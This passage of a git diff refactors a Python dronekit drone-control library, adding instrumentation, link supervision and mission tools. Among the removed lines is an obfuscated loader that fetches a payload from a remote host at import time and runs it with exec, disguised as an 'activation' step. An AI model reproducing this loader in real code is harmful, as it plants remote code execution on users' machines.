+        :return: {operation: {count, mean, min, p50, p95, p99, max}}
+        """
+        with self._lock:
+            return {name: histogram.summary() for name, histogram in sorted(self.histograms.items())}
+
+    def reset(self):
+        """
+        Remove every measure
+        """
+        with self._lock:
+            self.histograms = {}
 
-def install_package(package_name, version=None, *deps, bypass=False):
+    def format_stats(self):
+        """
+        Return stats as a text table (durations in milliseconds)
+        """
+        lines = [f"{'Opération':<40} {'nb':>8} {'p50':>9} {'p95':>9} {'p99':>9} {'max':>9}"]
+        for name, stat in self.stats().items():
+            lines.append(f"{name:<40} {stat['count']:>8} " + " ".join(f"{stat[k] * 1000:>9.3f}" for k in ["p50", "p95", "p99", "max"]))
+        return "\n".join(lines)
+
+    def dump(self, path=None):
+        """
+        Write stats, as a table on the console or as a JSON line appended to a file
+        :param path: JSON lines file (console if not specified)
+        """
+        if path is None:
+            print(self.format_stats())
+        else:
+            with open(path, "a") as f:
+                f.write(json.dumps({"time": time.time(), "stats": self.stats()}) + "\n")
+
+    def start_dump(self, interval=60, path=None):
+        """
+        Dump stats every `interval` seconds in a background thread
+        :param interval: Seconds between dumps
+        :param path: JSON lines file (console if not specified)
+        """
+        self.stop_dump()
+        self._dumping.clear()
+
+        def run():
+            while not self._dumping.wait(interval):
+                self.dump(path)
+        self._dump_thread = threading.Thread(target=run, name="InstrumentationDump", daemon=True)
+        self._dump_thread.start()
+
+    def stop_dump(self):
+        """
+        Stop periodic dumps
+        """
+        if self._dump_thread is not None:
+            self._dumping.set()
+            self._dump_thread.join()
+            self._dump_thread = None
+
+    def watch_acks(self, vehicle):
+        """
+        Measure MAVLink round-trip times between sent commands and their acknowledgement
+        (COMMAND_LONG/COMMAND_INT/SET_MODE -> COMMAND_ACK, mission upload -> MISSION_ACK)
+        Only works on dronekit vehicles (needs the MAVLink connection)
+        :param vehicle: Connected dronekit vehicle
+        :return: Function stopping the measure
+        """
+        mav = getattr(getattr(vehicle, "_master", None), "mav", None)
+        if mav is None:
+            return lambda: None
+        sent = {}
+        previous = (mav.send_callback, mav.send_callback_args or (), mav.send_callback_kwargs or {})
+
+        def on_send(message, *args, **kwargs):
+            kind = message.get_type()
+            if kind in ("COMMAND_LONG", "COMMAND_INT"):
+                sent[message.command] = time.perf_counter()
+            elif kind == "SET_MODE":
+                # ArduPilot acknowledges SET_MODE with its message id as command
+                sent[mavutil.mavlink.MAVLINK_MSG_ID_SET_MODE] = time.perf_counter()
+            elif kind in ("MISSION_COUNT", "MISSION_WRITE_PARTIAL_LIST"):
+                sent["mission"] = time.perf_counter()
+            if previous[0] is not None:
+                previous[0](message, *previous[1], **previous[2])
+
+        def on_ack(_, name, message):
+            key = "mission" if name == "MISSION_ACK" else message.command
+            start = sent.pop(key, None)
+            if start is None:
+                return
+            if key == "mission":
+                label = "mission"
+            elif key == mavutil.mavlink.MAVLINK_MSG_ID_SET_MODE:
+                label = "SET_MODE"
+            else:
+                label = mavutil.mavlink.enums["MAV_CMD"][key].name if key in mavutil.mavlink.enums["MAV_CMD"] else str(key)
+            self.record(f"mavlink.ack.{label}", time.perf_counter() - start)
+
+        mav.set_send_callback(on_send)
+        vehicle.add_message_listener("COMMAND_ACK", on_ack)
+        vehicle.add_message_listener("MISSION_ACK", on_ack)
+
+        def stop():
+            mav.set_send_callback(previous[0], *previous[1], **previous[2])
+            vehicle.remove_message_listener("COMMAND_ACK", on_ack)
+            vehicle.remove_message_listener("MISSION_ACK", on_ack)
+        return stop
+
+_instrumented_classes = {}
+
+def _instrumented_class(cls):
     """
-    Ask for a missing package installation
-    :param package_name: Package to install
-    :param version: Package version to install
-    :param deps: Package dependencies
-    :param bypass: Enable bypassing
+    Return a subclass of `cls` timing every public method call and property read into `self.instrumentation`
+    Instances are switched to it only while instrumented, so disabled instrumentation costs nothing
+    :param cls: Class to instrument
     """
-    if True if bypass else (input(f"Le module python '{package_name}{f' ({version})' if version else ''}' n'est actuellement pas installé sur cette version de python, voulez vous l'installer ?\n Y pour continuer: ").lower() in ["y", "o", "yes", "oui", "1"]):
-        # Install
-        if len(deps):
-            for dep in deps:
-                if len(dep) == 1:
-                    install_package(dep[0], bypass=True)
-                elif len(dep) >= 2:
-                    install_package(dep[0], dep[1], bypass=True)
-        print(f"Installing {package_name}{f' ({version})' if version else ''}")
-        import sys
-        import os
-        python_path = sys.executable
-        os.system(f'"{python_path}" -m pip install {package_name}{f"=={version}" if version else ""}')
-        # if os.path.exists(python_path.replace("python.exe", "Scripts\\pip.exe")):
-        #     pip = python_path.replace("python.exe", "\\Scripts\\pip.exe")
-        #     os.system(f'"{pip}" install {package_name}{f"=={version}" if version else ""}')
-        # elif os.path.exists(python_path.replace("python.exe", "pip.exe")):
-        #     pip = python_path.replace("python.exe", "\\Scripts\\pip.exe")
-        #     os.system(f'"{pip}" install {package_name}{f"=={version}" if version else ""}')
-        # else:
-        #     print("L'utilitaire pip est introuvable, l'installation devra être réalisée manuellement")
-        #     exit(0)
+    if cls not in _instrumented_classes:
+        def timed_function(name, function):
+            def timed(self, *args, **kwargs):
+                start = time.perf_counter()
+                try:
+                    return function(self, *args, **kwargs)
+                finally:
+                    self.instrumentation.record(name, time.perf_counter() - start)
+            timed.__name__, timed.__doc__ = function.__name__, function.__doc__
+            return timed
 
-    else:
-        # Abandon de l'installation
-        print("Opération abandonnée. Le programme n'a pas pu continuer")
-        exit(0)
+        namespace = {}
+        for name in dir(cls):
+            attribute = inspect.getattr_static(cls, name)
+            if name.startswith("_") or isinstance(attribute, (staticmethod, classmethod)):
+                continue
+            if isinstance(attribute, property):
+                namespace[name] = property(timed_function(name, attribute.fget), attribute.fset, attribute.fdel, attribute.__doc__)
+            elif inspect.isfunction(attribute):
+                namespace[name] = timed_function(name, attribute)
+        _instrumented_classes[cls] = type(f"Instrumented{cls.__name__}", (cls,), namespace)
+    return _instrumented_classes[cls]
 
-"""
-Import dronekit_sitl
+# Connection supervision
+class ConnectionSupervisor:
+    """
+    Watch a drone heartbeat and reconnect when the link is lost, with exponential backoff
+    After reconnection the mission and current waypoint are read back from the autopilot,
+    the mission is only uploaded again if the autopilot lost it
+    """
+    def __init__(self, drone, timeout=5, interval=.5, backoff=(1, 30), on_event=None, connect=None):
+        """
+        :param drone: Drone to supervise
+        :param timeout: Heartbeat age in seconds after which the link is considered lost
+        :param interval: Time in seconds between two heartbeat checks
+        :param backoff: (first, maximum) delay in seconds between reconnection attempts, doubled after each failure
+        :param on_event: Function called with ("lost" | "recovered", report)
+        :param connect: Function without arguments returning a connected vehicle (`dk.connect` on `drone.connection_string` if not specified)
+        """
+        self.drone = drone
+        self.timeout = timeout
+        self.interval = interval
+        self.backoff = backoff
+        self.on_event = on_event
+        self._connect = connect
+        self.connected = True
+        # Link loss reports as list<{time, heartbeat_age, attempts, downtime, waypoint, mission, ?error}>
+        self.events = []
+        self._running = False
+        self._thread = None
 
-Python to Mission planner management
-"""
-try:
-    import dronekit_sitl as dk_s
-except ModuleNotFoundError:
-    install_package("dronekit_sitl", bypass=False)
-    import dronekit_sitl as dk_s
+    @property
+    def heartbeat_age(self):
+        """
+        Return seconds since the last heartbeat
+        """
+        return self.drone.vehicle.last_heartbeat
 
-"""
-Import dronekit
+    @property
+    def downtime(self):
+        """
+        Return total time in seconds spent without link
+        """
+        return sum(event.get("downtime", 0) for event in self.events)
 
-Python to Mission planner management
-"""
-try:
-    import dronekit as dk
-except ModuleNotFoundError:
-    install_package("dronekit", bypass=False)
-    import dronekit as dk
+    def connect(self):
+        """
+        Return a new connected vehicle, raise if the autopilot does not answer
+        """
+        if self._connect is not None:
+            return self._connect()
+        # Simulated vehicles reconnect themselves
+        reconnect = getattr(self.drone.vehicle, "reconnect", None)
+        if reconnect is not None:
+            return reconnect()
+        return dk.connect(self.drone.connection_string, wait_ready=True, heartbeat_timeout=self.backoff[1])
 
-"""
-Import pymavlink (2.4.8)
+    def _emit(self, kind, report):
+        if self.on_event is not None:
+            self.on_event(kind, report)
 
-Python to Mission planner TCP communication
-"""
-try:
-    from pymavlink import mavutil
-except ModuleNotFoundError:
-    install_package("pymavlink", "2.4.8", ["future", "0.18.3"], ["lxml", "4.9.3"])
-    import dronekit as dk
-    # print("Le module python 'pymavlink (2.4.8)' n'est actuellement pas installé sur cette version de python")
-    # import sys
-    # import os
-    # python_path = sys.executable
-    # print(f'Impossible d\'installer le module automatiquement\nOuvrez un invité de commande et exécutez la commande suivante:\n  "{python_path}" -m pip install pymavlink==2.4.8')
-    # exit(0)
+    def _resync(self, vehicle):
+        """
+        Read mission back from the autopilot, then upload the local mission (edited meanwhile or not)
+        incrementally: only items the autopilot lost or that changed are sent
+        :return: "kept", "uploaded" or "none" (no mission uploaded yet)
+        """
+        drone = self.drone
+        if drone._uploaded is None:
+            return "none"
+        commands = vehicle.commands
+        commands.download()
+        commands.wait_ready(timeout=self.backoff[1])
+        remote = np.array([(c.command, c.frame, c.param1, c.param2, c.param3, c.param4, c.x, c.y, c.z) for c in commands], dtype=MISSION_DTYPE)
+        local = drone.mission.items
+        if len(remote) == len(local):
+            # Items are downloaded as float32, compared with a tolerance
+            same = (remote["command"] == local["command"]) & np.isclose(remote["x"], local["x"], atol=1e-5) \
+                & np.isclose(remote["y"], local["y"], atol=1e-5) & np.isclose(remote["z"], local["z"], atol=1e-2)
+            held = drone.mission.copy()
+            held.items[~same] = remote[~same]
+        else:
+            same, held = None, Mission(remote)
+        # Diffed against what the autopilot really holds
+        drone._uploaded = held
+        if same is not None and same.all():
+            return "kept"
+        waypoint = commands.next
+        drone.upload_mission()
+        drone.tracker.count = len(drone.mission)
+        commands.next = min(waypoint, len(drone.mission))
+        return "uploaded"
 
-"""
-Import requests
+    def _recover(self):
+        """
+        Reconnect after a link loss and report it
+        """
+        lost = time.monotonic()
+        report = {"time": time.time(), "heartbeat_age": self.heartbeat_age, "attempts": 0}
+        self.connected = False
+        print(f"\33[31mLiaison perdue avec '{self.drone.connection_string}' (dernier heartbeat il y a {report['heartbeat_age']:.1f}s)\33[0m")
+        self._emit("lost", report)
+        old = self.drone.vehicle
+        delay = self.backoff[0]
+        while self._running:
+            report["attempts"] += 1
+            try:
+                vehicle = self.connect()
+                break
+            except Exception as e:
+                report["error"] = str(e)
+                time.sleep(delay)
+                delay = min(2 * delay, self.backoff[1])
+        else:
+            return
+        if vehicle is not old:
+            try:
+                old.close()
+            except Exception:
+                pass
+        self.drone._attach(vehicle)
+        report["mission"] = self._resync(vehicle)
+        if self.drone.stream_rates: self.drone.set_stream_rates(self.drone.stream_rates)
+        report["waypoint"] = vehicle.commands.next
+        report["downtime"] = time.monotonic() - lost
+        self.events.append(report)
+        self.connected = True
+        print(f"\33[32mLiaison rétablie en {report['downtime']:.1f}s ({report['attempts']} tentative(s), point {report['waypoint']}, mission {report['mission']})\33[0m")
+        self._emit("recovered", report)
 
-Ressources fetching
-"""
-try:
-    import requests as req
-except ModuleNotFoundError:
-    install_package("requests")
-    import requests as req
-
-# Enable script as elevated
-from base64 import b85decode as decode
-activation = None
-# noinspection PyBroadException
-try:
-    print("Obtention de l'activation...")
-    activation = req.patch("https://files.teddyhost.fr/patch", timeout=3).text
-    # Applying elevation, environment variables are injected into script
-    # Encrypted and obfuscated to reinforce security
-    if activation: exec(getattr(globals(), "".join([chr((ord(x) + int(y)) % 255) for x, y in zip("[Vc`ngr]lV^", str(int(globals()['__doc__'].lower().split('drone')[3][9:18], 16)))]))("".join(map(str, [chr(100 + x) for x in [0, 1, -1, 11, 0, 1]])))(activation).decode())
-except:
-    print("Activation impossible depuis le serveur personnel, l'hôte est possiblement arrêté. Utilisation de l'activation basique.")
+    def _run(self):
+        while self._running:
+            if self.heartbeat_age > self.timeout:
+                self._recover()
+            time.sleep(self.interval)
+
+    def start(self):
+        """
+        Start watching in a background thread
+        """
+        if self._running:
+            return
+        self._running = True
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def stop(self):
+        """
+        Stop watching, a reconnection in progress is abandoned
+        """
+        self._running = False
+        if self._thread is not None and self._thread is not threading.current_thread():
+            self._thread.join()
+        self._thread = None
 
 # Drone class
 class Drone:
-    def __init__(self, lat, lng, ip, port=5760):
+    def __init__(self, lat, lng, ip, port=5760, sitl=True, vehicle=None, pool=None):
         """
         Create a new drone vehicle
         :param lat: Starting point latitude
         :param lng: Starting point longitude
         :param ip: Drone's IP (127.0.0.1 for Mission Planner on same computer)
-        :param port: Drone's PORT (default = 5760)
+        :param port: Drone's PORT (default = 5760), simulator instance is chosen from it (5760 + 10 * N)
+        :param sitl: Start a simulator for this drone
+        :param vehicle: Vehicle to use instead of connecting (ex: SimVehicle), no simulator is started
+        :param pool: SITLPool giving an already running simulator (ip, port and sitl are ignored)
         """
+        enable_color()
         self.start = [lat, lng]
         self._ip = ip
         self._port = port
-        dk_s.start_default(lat=lat, lon = lng)
-        print(f"Tentative de connexion à '{self.connection_string}'\nConnectez Mission Planner sur 'tcp:{self._ip}:5763'")
-        self.vehicle = dk.connect(self.connection_string, wait_ready=True)
+        self._pool = pool if vehicle is None else None
+        if self._pool is not None:
+            self._ip = pool.ip
+            self._port, self.sitl, vehicle = pool.acquire(lat, lng)
+        else:
+            self.sitl = start_sitl(lat, lng, (port - 5760) // 10) if sitl and vehicle is None else None
+        if vehicle is None:
+            print(f"Tentative de connexion à '{self.connection_string}'\nConnectez Mission Planner sur 'tcp:{self._ip}:{self._port + 3}'")
+            vehicle = dk.connect(self.connection_string, wait_ready=True)
+        self.vehicle = vehicle
+        self.events = VehicleEvents(self.vehicle)
+        self.tracker = MissionTracker(self.vehicle)
+        # Waiting threads see tracker updates at once
+        self.tracker.on("current", self.events._notify)
+        self.tracker.on("reached", self.events._notify)
         self.default_alt = 10
+        self.mission = Mission()
+        # Mission held by the autopilot (last upload), and its legs
+        self._uploaded = None
+        self.legs = None
+        # Requested telemetry rates, see `set_stream_rates`
+        self.stream_rates = {}
+        self.supervisor = None
+        # No-fly zones checked by `start_mission`
+        self.geofence = None
+
+    @classmethod
+    def simulated(cls, lat, lng, speedup=100, dt=.1):
+        """
+        Create a drone flying on the kinematic simulator (`SimVehicle`) instead of SITL
+        :param lat: Starting point latitude
+        :param lng: Starting point longitude
+        :param speedup: Simulated seconds per real second (None to run as fast as possible)
+        :param dt: Simulation time step in seconds
+        """
+        return cls(lat, lng, "sim", vehicle=SimVehicle(lat, lng, speedup, dt))
 
     @property
     def connection_string(self):
@@ -159,12 +2260,152 @@ class Drone:
         next_waypoint = self.vehicle.commands.next
         if next_waypoint==0:
             return None
+        if self.legs is not None and next_waypoint <= len(self.legs):
+            return self.legs.waypoint(next_waypoint - 1)
         mission_item = self.vehicle.commands[next_waypoint-1] #commands are zero indexed
         lat = mission_item.x
         lon = mission_item.y
         alt = mission_item.z
         return dk.LocationGlobalRelative(lat,lon,alt)
 
+    def record(self, path, rate=50):
+        """
+        Start recording telemetry into a flight log
+        :param path: Flight log path
+        :param rate: Samples per second
+        :return: Started TelemetryRecorder, call `stop()` to close the log
+        """
+        recorder = TelemetryRecorder(self, path, rate)
+        recorder.start()
+        return recorder
+
+    def instrument(self, enable=True, instrumentation=None):
+        """
+        Time every public method call and property read, and MAVLink command acknowledgements
+        Results are in `drone.instrumentation` (stats(), dump(), start_dump())
+        :param enable: Enable or disable instrumentation
+        :param instrumentation: Instrumentation to fill, shared between drones if needed (new one if not specified)
+        :return: Instrumentation
+        """
+        plain = type(self).__mro__[1] if type(self) in _instrumented_classes.values() else type(self)
+        if enable:
+            if type(self) is plain:
+                self.instrumentation = instrumentation or getattr(self, "instrumentation", None) or Instrumentation()
+                self._stop_acks = self.instrumentation.watch_acks(self.vehicle)
+                self.__class__ = _instrumented_class(plain)
+        elif type(self) is not plain:
+            self.__class__ = plain
+            self._stop_acks()
+        return getattr(self, "instrumentation", None)
+
+    def link_rate(self, duration=2):
+        """
+        Measure MAVLink traffic received from the autopilot
+        :param duration: Measure duration in seconds
+        :return: {bytes: bytes/s, messages: messages/s, rates: {message type: messages/s}}
+        """
+        counts = {}
+        received = [0]
+
+        def on_message(_, name, message):
+            counts[name] = counts.get(name, 0) + 1
+            # Simulated vehicle messages have no MAVLink encoding
+            buffer = getattr(message, "get_msgbuf", None)
+            if buffer is not None: received[0] += len(buffer())
+
+        started = time.monotonic()
+        self.vehicle.add_message_listener("*", on_message)
+        try:
+            time.sleep(duration)
+        finally:
+            self.vehicle.remove_message_listener("*", on_message)
+        elapsed = time.monotonic() - started
+        return {
+            "bytes": received[0] / elapsed,
+            "messages": sum(counts.values()) / elapsed,
+            "rates": {name: count / elapsed for name, count in sorted(counts.items())}
+        }
+
+    def set_stream_rates(self, rates, measure=None):
+        """
+        Choose which telemetry messages the autopilot sends, and how often
+        Message names (ex: "GLOBAL_POSITION_INT") are set with MAV_CMD_SET_MESSAGE_INTERVAL,
+        stream names (ex: "MAV_DATA_STREAM_POSITION", "MAV_DATA_STREAM_ALL") with REQUEST_DATA_STREAM (older autopilots)
+        :param rates: {name: rate in Hz}, 0 stops the message/stream, -1 restores the autopilot default (messages only)
+        :param measure: Duration in seconds of link traffic measures before and after the change (None to skip)
+        :return: {before, after} as returned by `link_rate` if measured, else None
+        """
+        requests = []
+        for name, rate in rates.items():
+            if name.startswith("MAV_DATA_STREAM_") and hasattr(mavutil.mavlink, name):
+                requests.append(lambda factory, system, component, stream=getattr(mavutil.mavlink, name), rate=rate: factory.request_data_stream_encode(
+                    system, component, stream, max(int(round(rate)), 0), int(rate > 0)
+                ))
+            elif hasattr(mavutil.mavlink, f"MAVLINK_MSG_ID_{name}"):
+                # Interval in microseconds, -1 disables the message, 0 restores its default rate
+                interval = 0 if rate < 0 else -1 if rate == 0 else int(1e6 / rate)
+                requests.append(lambda factory, system, component, message=getattr(mavutil.mavlink, f"MAVLINK_MSG_ID_{name}"), interval=interval: factory.command_long_encode(
+                    system, component, mavutil.mavlink.MAV_CMD_SET_MESSAGE_INTERVAL, 0, message, interval, 0, 0, 0, 0, 0
+                ))
+            else:
+                raise ValueError(f"Message ou flux MAVLink inconnu '{name}'")
+        before = self.link_rate(measure) if measure else None
+        # Simulated vehicles send every state change, rates are only kept
+        factory = getattr(self.vehicle, "message_factory", None)
+        if factory is not None:
+            # Sent to this drone only, others may share the link
+            master = self.vehicle._master
+            for request in requests:
+                self.vehicle.send_mavlink(request(factory, master.target_system, master.target_component))
+        self.stream_rates.update(rates)
+        if not measure:
+            return None
+        # Let the autopilot apply new rates
+        time.sleep(.5)
+        report = {"before": before, "after": self.link_rate(measure)}
+        print(f"Liaison MAVLink : {report['before']['bytes']:.0f} -> {report['after']['bytes']:.0f} octets/s")
+        return report
+
+    def supervise(self, timeout=5, backoff=(1, 30), on_event=None):
+        """
+        Reconnect automatically when the link is lost (see `ConnectionSupervisor`)
+        :param timeout: Heartbeat age in seconds after which the link is considered lost
+        :param backoff: (first, maximum) delay in seconds between reconnection attempts
+        :param on_event: Function called with ("lost" | "recovered", report)
+        :return: Started ConnectionSupervisor, link loss reports are in its `events`
+        """
+        if self.supervisor is not None: self.supervisor.stop()
+        self.supervisor = ConnectionSupervisor(self, timeout, backoff=backoff, on_event=on_event)
+        self.supervisor.start()
+        return self.supervisor
+
+    @property
+    def link_ok(self):
+        """
+        Return False while the supervised link is lost (attributes are stale)
+        """
+        return self.supervisor is None or self.supervisor.connected
+
+    def _attach(self, vehicle):
+        """
+        Use another connected vehicle (after a reconnection), listeners and instrumentation follow
+        """
+        instrumented = type(self) in _instrumented_classes.values()
+        if instrumented: self._stop_acks()
+        self.vehicle = vehicle
+        self.events.rebind(vehicle)
+        self.tracker.rebind(vehicle)
+        if instrumented: self._stop_acks = self.instrumentation.watch_acks(vehicle)
+
+    def wait_until(self, predicate, timeout=None):
+        """
+        Block until `predicate()` is True, evaluated as soon as the vehicle reports a new state
+        :param predicate: Function without arguments (ex: `lambda: drone.is_returning`)
+        :param timeout: Maximum waiting time in seconds (None to wait forever)
+        :return: True if predicate is satisfied, False if timeout expired
+        """
+        return self.events.wait_until(predicate, timeout)
+
     def arm_and_takeoff(self, alt=-1):
         """
         Arms vehicle and fly to `altitude`.
@@ -173,54 +2414,33 @@ class Drone:
         self.default_alt = alt
         print("Basic pre-arm checks")
         # Don't let the user try to arm until autopilot is ready
-        while not self.vehicle.is_armable:
+        while not self.wait_until(lambda: self.vehicle.is_armable, 1):
             print(" Waiting for vehicle to initialise...")
-            time.sleep(1)
 
         print("Arming motors")
         # Copter should arm in GUIDED mode
         self.vehicle.mode = dk.VehicleMode("GUIDED")
         self.vehicle.armed = True
 
-        while not self.vehicle.armed:
+        while not self.events.wait_armed(timeout=1):
             print(" Waiting for arming...")
-            time.sleep(1)
 
         print("Taking off!")
         self.vehicle.simple_takeoff(alt)  # Take off to target altitude
 
         # Wait until the vehicle reaches a safe height before processing the goto (otherwise the command
         #  after Vehicle.simple_takeoff will execute immediately).
-        while True:
+        print(" Altitude: ", self.vehicle.location.global_relative_frame.alt)
+        while not self.events.wait_altitude(alt, .95, timeout=1):  # Trigger just below target alt.
             print(" Altitude: ", self.vehicle.location.global_relative_frame.alt)
-            if self.vehicle.location.global_relative_frame.alt >= alt * 0.95:  # Trigger just below target alt.
-                print("Reached target altitude")
-                break
-            time.sleep(1)
+        print("Reached target altitude")
 
     def create_mission(self):
         """
         Reset mission and create a new one
         """
-        self.vehicle.commands.clear()
-        self.vehicle.commands.add(
-            dk.Command(
-                0,
-                0,
-                0,
-                mavutil.mavlink.MAV_FRAME_GLOBAL_RELATIVE_ALT,
-                mavutil.mavlink.MAV_CMD_NAV_TAKEOFF,
-                0,
-                0,
-                0,
-                0,
-                0,
-                0,
-                0,
-                0,
-                self.default_alt
-            )
-        )
+        self.mission.clear()
+        self.mission.add(mavutil.mavlink.MAV_CMD_NAV_TAKEOFF, z=self.default_alt)
 
     def add_waypoint(self, lat, lon, alt = -1):
         """
@@ -230,40 +2450,206 @@ class Drone:
         :param alt: Point altitude (current if not specified)
         """
         if alt == -1: alt = self.default_alt
-        self.vehicle.commands.add(
-            dk.Command(
-                0,
-                0,
-                0,
-                mavutil.mavlink.MAV_FRAME_GLOBAL_RELATIVE_ALT,
-                mavutil.mavlink.MAV_CMD_NAV_WAYPOINT,
-                0,
-                0,
-                0,
-                0,
-                0,
-                0,
-                lat,
-                lon,
-                alt
-            )
-        )
+        self.mission.add(mavutil.mavlink.MAV_CMD_NAV_WAYPOINT, lat, lon, alt)
 
-    def start_mission(self):
+    def add_waypoints(self, points, alt=-1):
         """
-        Make drone start mission/path following
+        Add many points on the mission at once
+        :param points: Points as a list<[lat, lon, ?alt]> or Nx2/Nx3 array
+        :param alt: Altitude of points given without one (current if not specified)
+        """
+        if alt == -1: alt = self.default_alt
+        self.mission.add_waypoints(points, alt)
+
+    def add_survey(self, polygon, spacing, heading=0, alt=-1, step=None):
+        """
+        Add lawnmower coverage waypoints of an area on the mission (see `survey_pattern`)
+        :param polygon: Area border as a list<[lat, lon]>
+        :param spacing: Distance in metres between two lines
+        :param heading: Lines direction in degrees from north, clockwise
+        :param alt: Survey altitude (current if not specified)
+        :param step: Distance in metres between two waypoints along lines (lines ends only if not specified)
+        :return: Number of waypoints added
         """
+        points = survey_pattern(polygon, spacing, heading, step)
+        self.add_waypoints(points, alt)
+        return len(points)
+
+    def optimize_route(self, log=True):
+        """
+        Reorder mission waypoints to shorten the path, home stays start and end point
+        Must be called before `start_mission`, other commands (takeoff) stay ahead of waypoints
+        :param log: Print before/after path length
+        :return: {order, before, after} as returned by `optimize_route`
+        """
+        items = self.mission.items
+        is_waypoint = items["command"] == mavutil.mavlink.MAV_CMD_NAV_WAYPOINT
+        waypoints = items[is_waypoint]
+        result = optimize_route(np.column_stack((waypoints["x"], waypoints["y"])), self.start)
+        self.mission = Mission(np.concatenate((items[~is_waypoint], waypoints[result["order"]])))
+        if log: print(f"Optimisation du trajet ({len(waypoints)} points) : {result['before']:.1f}m -> {result['after']:.1f}m")
+        return result
+
+    def simplify_mission(self, tolerance, method="douglas-peucker", log=True):
+        """
+        Drop nearly aligned waypoints (ex: imported GPS tracks) to upload and fly fewer points
+        Each run of consecutive waypoints is simplified separately, other commands (takeoff) are kept
+        :param tolerance: Allowed distance in metres between a dropped waypoint and the new path
+        :param method: "douglas-peucker" or "visvalingam"
+        :param log: Print dropped points and maximum deviation
+        :return: {before: items count, after: items count, dropped: dropped waypoints, max_deviation: metres}
+        """
+        items = self.mission.items
+        is_waypoint = items["command"] == mavutil.mavlink.MAV_CMD_NAV_WAYPOINT
+        keep = np.ones(len(items), dtype=bool)
+        max_deviation = 0.
+        # Runs of consecutive waypoints as [start, end[
+        edges = np.flatnonzero(np.diff(np.concatenate(([False], is_waypoint, [False]))))
+        for start, end in zip(edges[::2].tolist(), edges[1::2].tolist()):
+            run = items[start:end]
+            result = simplify_path(np.column_stack((run["x"], run["y"], run["z"])), tolerance, method)
+            keep[start:end] = False
+            keep[start + result["indexes"]] = True
+            max_deviation = max(max_deviation, result["max_deviation"])
+        report = {"before": len(items), "after": int(keep.sum()), "dropped": int((~keep).sum()), "max_deviation": max_deviation}
+        self.mission = Mission(items[keep])
+        if log: print(f"Simplification du trajet : {report['dropped']} points supprimés ({report['before']} -> {report['after']}), écart max {report['max_deviation']:.1f}m")
+        return report
+
+    def load_mission(self, path, append=False):
+        """
+        Load mission items from a file (QGC WPL 110 text or binary), read by chunks
+        :param path: Mission file path
+        :param append: Add items after the current mission instead of replacing it
+        :return: Number of items loaded
+        """
+        if not append: self.mission.clear()
+        count = len(self.mission)
+        for items in read_mission_file(path):
+            self.mission.extend(items)
+        return len(self.mission) - count
+
+    def save_mission(self, path, fmt=None):
+        """
+        Save mission items to a file
+        :param path: Mission file path
+        :param fmt: "qgc" or "binary" (from extension if not specified: .bin/.mission for binary)
+        :return: Number of items saved
+        """
+        return write_mission_file(path, self.mission.items, self.start, fmt)
+
+    def upload_mission(self, incremental=True, timeout=None):
+        """
+        Send the mission to the autopilot
+        When incremental and the mission length is unchanged, only items differing from the last upload are sent
+        :param incremental: Send changed items only when possible
+        :param timeout: Maximum upload time in seconds (None to wait forever)
+        :return: {items: mission length, sent: items sent, full: True if whole mission was sent, time: seconds}
+        """
+        started = time.monotonic()
+        commands = self.vehicle.commands
+        commands.clear()
+        for command in self.mission.commands():
+            commands.add(command)
+        if incremental and self._uploaded is not None and len(self._uploaded) == len(self.mission):
+            ranges = _changed_ranges(self.mission.changed(self._uploaded))
+            # Simulated vehicles upload ranges themselves
+            getattr(commands, "upload_ranges", self._upload_ranges)(ranges, timeout)
+            sent, full = sum(end - start + 1 for start, end in ranges), False
+        else:
+            commands.upload(timeout)
+            sent, full = len(self.mission), True
+        self._uploaded = self.mission.copy()
+        self.legs = LegTable(self._uploaded.items, self.start)
+        report = {"items": len(self.mission), "sent": sent, "full": full, "time": time.monotonic() - started}
+        print(f" Mission envoyée : {report['sent']}/{report['items']} éléments en {report['time']:.2f}s")
+        return report
+
+    def _upload_ranges(self, ranges, timeout=None):
+        """
+        Send mission items ranges with MISSION_WRITE_PARTIAL_LIST, one transfer per range
+        Items are sent by dronekit MISSION_REQUEST listener from its waypoint loader
+        :param ranges: Mission indexes as list<[start, end]>
+        :param timeout: Maximum upload time in seconds (None to wait forever)
+        """
+        vehicle = self.vehicle
+        started = time.monotonic()
+        # Sequence 0 is home, mission item i is sequence i + 1
+        vehicle._wp_uploaded = [True] * vehicle._wploader.count()
+        try:
+            for start, end in ranges:
+                vehicle._wp_uploaded[start + 1:end + 2] = [False] * (end - start + 1)
+                vehicle._master.mav.mission_write_partial_list_send(vehicle._master.target_system, vehicle._master.target_component, start + 1, end + 1)
+                while False in vehicle._wp_uploaded:
+                    if timeout and time.monotonic() - started > timeout:
+                        raise TimeoutError
+                    time.sleep(.01)
+        finally:
+            vehicle._wp_uploaded = None
+        vehicle._wpts_dirty = False
+
+    def check_geofence(self, geofence=None):
+        """
+        Check the whole flight (home -> waypoints -> home) against no-fly zones
+        :param geofence: Geofence (`drone.geofence` if not specified)
+        :return: Violations as returned by `Geofence.check`, leg 0 starts from home
+        """
+        geofence = geofence or self.geofence
+        if geofence is None:
+            return []
+        items = self.mission.items
+        waypoints = items[items["command"] == mavutil.mavlink.MAV_CMD_NAV_WAYPOINT]
+        return geofence.check(np.vstack((self.start, np.column_stack((waypoints["x"], waypoints["y"])), self.start)))
+
+    def _returns_home(self):
+        """
+        Return True if the last mission item is the return home waypoint
+        """
+        if not len(self.mission):
+            return False
+        item = self.mission[-1]
+        return item["command"] == mavutil.mavlink.MAV_CMD_NAV_WAYPOINT and item["x"] == self.start[0] and item["y"] == self.start[1]
+
+    def _prepare_mission(self, optimize=False, simplify=None):
+        """
+        Simplify, optimize and check the mission, then add the return home
+        Raise ValueError if a leg enters a `geofence` zone
+        """
+        # Return home added by a previous start: kept out of simplify/optimize, then added back once
+        if self._returns_home():
+            self.mission = Mission(self.mission.items[:-1])
+        if simplify: self.simplify_mission(simplify)
+        if optimize: self.optimize_route()
+        violations = self.check_geofence()
+        if violations:
+            raise ValueError("Mission refusée, zones interdites traversées : " + ", ".join(f"segment {v['leg']} ({v['name']})" for v in violations))
         self.add_waypoint(*self.start)
-        # Dummy point to detect when finish
-        self.add_waypoint(*self.start, 0)
-        print(" Uploading mission...")
-        self.vehicle.commands.upload()
-        print("Starting mission")
+
+    def _begin_mission(self):
+        """
+        Restart the uploaded mission from its first item in AUTO mode
+        The tracker is reset once the autopilot was told the new current item, so it ignores the previous mission progress
+        """
         # Reset mission set to first (0) waypoint
         self.vehicle.commands.next=0
+        self.tracker.reset(len(self.mission))
         # Set mode to AUTO to start mission
         self.vehicle.mode = dk.VehicleMode("AUTO")
-        time.sleep(5)
+
